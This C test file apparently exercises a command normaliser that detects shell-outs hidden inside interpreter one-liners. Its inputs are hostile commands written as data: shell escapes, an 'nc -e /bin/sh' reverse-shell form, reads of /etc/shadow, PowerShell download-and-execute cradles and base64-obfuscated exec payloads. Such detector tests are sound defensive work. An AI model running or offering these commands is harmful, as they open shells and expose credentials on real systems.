/* Interpreter code: CODE texts with lang, and shell-outs read as shell. */
#include "norm_test.h"

/* code text of lang exists for cmd prog; the shell-out prog sub is nested under it */
static void shellout(const char *src, const char *interp, const char *lang, const char *sub,
                     const char *subline)
{
    const px_actions *a = norm(src);
    const px_cmd *i = need_prog(a, interp);
    const px_text *t = NULL;
    for (int k = 0; k < a->ntexts; k++)
        if (a->texts[k].kind == PX_TEXT_CODE && a->texts[k].cmd == cmd_index(a, i))
            t = &a->texts[k];
    cr_assert_not_null(t, "%s: no CODE text:\n%s", src, dump(a));
    cr_assert_str_eq(t->lang, lang, "%s", src);
    if (sub == NULL)
        return;
    const px_cmd *s = need_prog(a, sub);
    cr_assert(s->flags & PX_CMD_NESTED, "%s: %s", src, dump(a));
    cr_assert_eq(s->parent, cmd_index(a, i), "%s: %s", src, dump(a));
    if (subline)
        cr_assert_str_eq(s->line, subline, "%s: %s", src, dump(a));
    cr_assert(a->flags & PX_ACT_EVAL);
}

Test(norm_interp, awk_system)
{
    shellout("awk 'BEGIN {system(\"/bin/sh\")}'", "awk", "awk", "sh", "sh");
    shellout("gawk -F: -v x=1 'BEGIN{system(\"id\")}' /etc/passwd", "gawk", "awk", "id", "id");
    shellout("awk '{ \"date\" | getline d; print | \"sort -r\" }' f", "awk", "awk", "date", "date");
    shellout("mawk 'BEGIN { print \"x\" | \"cat >/tmp/x\" }'", "mawk", "awk", "cat", "cat >/tmp/x");
}

Test(norm_interp, awk_file_program_is_not_code)
{
    const px_actions *a = norm("awk -f prog.awk data.txt");
    cr_assert_eq(count_texts(a, PX_TEXT_CODE), 0, "%s", dump(a));
}

Test(norm_interp, python_forms)
{
    shellout("python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "python3", "python", "bash", "bash");
    shellout("python -c 'import os; os.system(\"nc -e /bin/sh x 1\")'", "python", "python", "nc",
             "nc -e /bin/sh x 1");
    shellout("python3.11 -c \"import subprocess; subprocess.run(['cat', '/etc/shadow'])\"", "python3.11",
             "python", "cat", "cat /etc/shadow");
    shellout("python2 -c 'import os; os.popen(\"id\").read()'", "python2", "python", "id", "id");
    shellout("python3 -c 'import os; os.execl(\"/bin/sh\", \"sh\", \"-p\")'", "python3", "python", "sh",
             "sh -p");
    shellout("python3 -c 'import subprocess as s; s.check_output(\"whoami\", shell=True)'", "python3",
             "python", "whoami", "whoami");
}

Test(norm_interp, python_exec_is_python)
{
    const px_actions *a = norm("python3 -c 'exec(\"print(1)\")'");
    assert_no_prog(a, "print(1)");
    cr_assert_eq(a->ncmds, 1, "%s", dump(a));
}

Test(norm_interp, python_module_and_script_are_not_code)
{
    const px_actions *a = norm("python3 -m http.server 8000; python3 app.py --debug");
    cr_assert_eq(count_texts(a, PX_TEXT_CODE), 0, "%s", dump(a));
}

Test(norm_interp, perl_ruby)
{
    shellout("perl -e 'exec \"/bin/sh\";'", "perl", "perl", "sh", "sh");
    shellout("perl -MIO::Socket -lne 'print `id`'", "perl", "perl", "id", "id");
    shellout("perl -e 'system qq{whoami}'", "perl", "perl", "whoami", "whoami");
    shellout("perl -e 'open(F, \"|sendmail x\")'", "perl", "perl", "sendmail", "sendmail x");
    shellout("ruby -rsocket -e 'exec \"/bin/sh\"'", "ruby", "ruby", "sh", "sh");
    shellout("ruby -e 'puts %x(uname -a)'", "ruby", "ruby", "uname", "uname -a");
    shellout("ruby -e 'IO.popen(\"id\")'", "ruby", "ruby", "id", "id");
    shellout("ruby -e 'Kernel.exec(\"/bin/sh\")'", "ruby", "ruby", "sh", "sh");
}

Test(norm_interp, node_php_lua)
{
    shellout("node -e 'require(\"child_process\").exec(\"id\")'", "node", "node", "id", "id");
    shellout("node --eval \"require('child_process').spawn('/bin/sh', ['-i'])\"", "node", "node", "sh",
             "sh -i");
    shellout("node -p 'require(\"child_process\").execSync(`whoami`)'", "node", "node", "whoami", "whoami");
    shellout("php -r 'system(\"id\");'", "php", "php", "id", "id");
    shellout("php -r '$s=shell_exec(\"whoami\");'", "php", "php", "whoami", "whoami");
    shellout("php -r 'passthru(\"uname\");'", "php", "php", "uname", "uname");
    shellout("php -r 'pcntl_exec(\"/bin/sh\", [\"-p\"]);'", "php", "php", "sh", "sh -p");
    shellout("php -r 'echo `id`;'", "php", "php", "id", "id");
    shellout("lua -e 'os.execute(\"/bin/sh\")'", "lua", "lua", "sh", "sh");
    shellout("lua5.3 -e 'io.popen(\"id\")'", "lua5.3", "lua", "id", "id");
}

Test(norm_interp, other_interpreters)
{
    shellout("osascript -e 'do shell script \"id\"'", "osascript", "applescript", "id", "id");
    shellout("pwsh -c 'Get-Process'", "pwsh", "powershell", NULL, NULL);
    shellout("powershell -NoProfile -Command \"iex (iwr http://x)\"", "powershell", "powershell", NULL, NULL);
    shellout("Rscript -e 'system(\"id\")'", "Rscript", "r", "id", "id");
    shellout("R --no-save -e 'system(\"whoami\")'", "R", "r", "whoami", "whoami");
    shellout("julia -e 'run(`id`)'", "julia", "julia", "id", "id");
    shellout("expect -c 'spawn /bin/sh; interact'", "expect", "tcl", "sh", "sh");
    shellout("gdb -nx -ex '!sh' -ex quit", "gdb", "gdb", "sh", "sh");
    shellout("gdb -batch -ex 'shell id'", "gdb", "gdb", "id", "id");
    shellout("vim -c ':!/bin/sh'", "vim", "vim", "sh", "sh");
    shellout("vi -c ':py3 import os; os.system(\"id\")'", "vi", "vim", "id", "id");
    shellout("nvim +'!whoami' x", "nvim", "vim", "whoami", "whoami");
}

Test(norm_interp, heredoc_and_pipe_into_interpreters)
{
    shellout("python3 <<EOF\nimport os\nos.system('id')\nEOF", "python3", "python", "id", "id");
    shellout("echo 'system(\"id\")' | php", "php", "php", "id", "id");
    shellout("perl <<< 'exec \"/bin/sh\"'", "perl", "perl", "sh", "sh");
    shellout("tclsh <<EOF\nexec whoami\nEOF", "tclsh", "tcl", "whoami", "whoami");
    shellout("echo 'exec id' | wish", "wish", "tcl", "id", "id");
}

Test(norm_interp, interpreter_with_script_ignores_stdin)
{
    const px_actions *a = norm("echo 'os.system(\"id\")' | python3 app.py");
    cr_assert_eq(count_texts(a, PX_TEXT_CODE), 0, "%s", dump(a));
    assert_no_prog(a, "id");
}

Test(norm_interp, sql_clients)
{
    const px_actions *a = norm("sqlite3 /dev/null '.shell /bin/sh'");
    need_prog(a, "sh");
    cr_assert_not_null(find_text(a, PX_TEXT_DATA, ".shell"));
    a = norm("mysql -u root -e '\\! id'");
    need_prog(a, "id");
    a = norm("psql -h db <<EOF\nselect 1;\n\\! whoami\nEOF");
    need_prog(a, "whoami");
    cr_assert_not_null(find_text(a, PX_TEXT_DATA, "select 1"));
    a = norm("mysql -u app -e 'select * from users'");
    cr_assert_eq(a->ncmds, 1);
    cr_assert_not_null(find_text(a, PX_TEXT_DATA, "select * from users"));
}

Test(norm_interp, prints_are_not_shell_outs)
{
    const px_actions *a = norm("python3 -c 'print(\"system(x)\")'; node -e 'console.log(\"exec\")'");
    cr_assert_eq(a->ncmds, 2, "%s", dump(a));
}

Test(norm_interp, base64_payloads_inside_code)
{
    /* base64 of "import os\nos.popen('id')" */
    const px_actions *a = norm("python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9zCm9zLnBvcGVuKCdpZCcp'))\"");
    const px_cmd *id = need_prog(a, "id");
    cr_assert(id->flags & PX_CMD_DECODED);
    cr_assert_eq(id->parent, 0);
    cr_assert_not_null(find_text(a, PX_TEXT_DECODED, "os.popen"), "%s", dump(a));
    cr_assert(a->flags & PX_ACT_DECODED);
    /* base64 of: system("id"); */
    a = norm("php -r 'eval(base64_decode(\"c3lzdGVtKCJpZCIpOw==\"));'");
    need_prog(a, "id");
    /* binary payloads are not read as code */
    a = norm("python3 -c \"x=base64.b64decode('/////w==')\"");
    cr_assert_eq(count_texts(a, PX_TEXT_DECODED), 0, "%s", dump(a));
}

Test(norm_interp, list_arguments_keep_their_boundaries)
{
    const px_actions *a = norm("python3 -c 'import subprocess; subprocess.call([\"sh\", \"-c\", \"id; whoami\"])'");
    const px_cmd *sh = need_prog(a, "sh");
    cr_assert_eq(sh->argc, 3, "%s", dump(a));
    cr_assert_str_eq(sh->argv[2], "id; whoami");
    cr_assert_eq(need_prog(a, "id")->parent, cmd_index(a, sh));
    cr_assert_eq(need_prog(a, "whoami")->parent, cmd_index(a, sh));
    a = norm("perl -e 'open(my $f, \"-|\", \"uname -a\")'");
    cr_assert_str_eq(need_prog(a, "uname")->line, "uname -a", "%s", dump(a));
}

Test(norm_interp, powershell_positional_and_file)
{
    const px_actions *a = norm("powershell.exe -ep bypass -w hidden \"IEX(New-Object Net.WebClient)\"");
    const px_text *t = find_text(a, PX_TEXT_CODE, "IEX");
    cr_assert_not_null(t, "%s", dump(a));
    cr_assert_str_eq(t->lang, "powershell");
    a = norm("pwsh -File ./deploy.ps1; pwsh ./x.ps1");
    cr_assert_eq(count_texts(a, PX_TEXT_CODE), 0, "%s", dump(a));
}
